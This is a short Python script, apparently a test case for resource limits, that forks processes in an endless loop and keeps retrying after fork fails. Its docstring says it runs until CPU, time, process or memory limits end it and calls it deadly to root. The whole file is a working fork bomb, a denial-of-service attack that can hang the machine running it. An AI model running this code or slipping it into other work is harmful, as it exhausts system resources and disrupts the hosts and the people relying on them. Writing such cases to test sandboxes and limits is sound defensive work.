"""Starts processes until it cannot, and then goes on trying.

Ends: cpu or wall or processes or memory
Deadly: to root
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
